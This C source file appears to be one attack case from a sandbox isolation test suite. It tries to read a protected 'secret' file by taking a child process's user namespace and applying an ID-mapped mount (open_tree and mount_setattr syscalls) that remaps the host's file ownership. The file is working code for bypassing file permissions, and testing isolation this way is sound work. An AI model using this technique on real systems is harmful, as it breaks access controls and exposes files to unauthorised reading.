/* Maps the owners of the host's files to its own and reads one that it may not read. */
#include "attack.h"

void victim(void) {
    ready("%s", secret_file("file"));
    wait_for_end();
}
void attack(int n, char **word) {
    struct { uint64_t set, clear, propagation, userns; } change = {0x100000 /* MOUNT_ATTR_IDMAP */, 0, 0, 0};
    char directory[PATH_MAX];
    snprintf(directory, sizeof directory, "%s", word[n - 1]);
    *strrchr(directory, '/') = 0;
    int pid = fork();
    if (pid == 0) {
        take_namespaces(CLONE_NEWNS);
        pause();
    }
    usleep(50000);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
    int space = open(path, O_RDONLY);
    kill(pid, SIGKILL);
    TRY(space);
    change.userns = (uint64_t)space;
    int tree = (int)TRY(syscall(428 /* open_tree */, AT_FDCWD, directory, 1));
    TRY(syscall(442, tree, "", AT_EMPTY_PATH, &change, sizeof change));
    reached();
}
